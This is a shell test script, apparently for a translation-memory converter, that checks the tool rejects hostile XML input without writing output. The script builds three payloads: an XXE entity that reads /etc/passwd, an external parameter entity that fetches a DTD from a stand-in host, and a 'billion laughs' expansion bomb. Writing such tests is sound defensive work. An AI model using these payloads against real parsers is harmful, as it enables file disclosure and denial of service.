. "$SRCDIR/tests/cli/tmx/helpers.inc"
# Entity declarations are refused before anything is expanded or
# loaded: an external entity (XXE) pointing at a local file, an external
# parameter entity (which would load a DTD from the network), and the
# "billion laughs" expansion bomb.  Status 2, the file and line named,
# nothing written.
h='<tmx version="1.4"><header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="t" adminlang="en" srclang="en" datatype="plaintext"/><body>'
cat > xxe.tmx <<XXE
<?xml version="1.0"?>
<!DOCTYPE tmx [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
$h<tu><tuv xml:lang="en"><seg>&secret;</seg></tuv></tu></body></tmx>
XXE
cat > param.tmx <<PARAM
<?xml version="1.0"?>
<!DOCTYPE tmx [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
$h</body></tmx>
PARAM
{
  echo '<?xml version="1.0"?>'
  echo '<!DOCTYPE tmx ['
  echo ' <!ENTITY lol "lol">'
  prev=lol
  for i in 1 2 3 4 5 6 7 8 9; do
    printf ' <!ENTITY lol%s "' $i
    for j in 1 2 3 4 5 6 7 8 9 10; do printf '&%s;' $prev; done
    echo '">'
    prev=lol$i
  done
  echo ']>'
  echo "$h<tu><tuv xml:lang=\"en\"><seg>&lol9;</seg></tuv></tu></body></tmx>"
} > bomb.tmx
for f in xxe param bomb; do
  tmconv tmx convert -o out.tmx $f.tmx
  echo "$f: exit $?"
done
test -e out.tmx || echo "no output written"
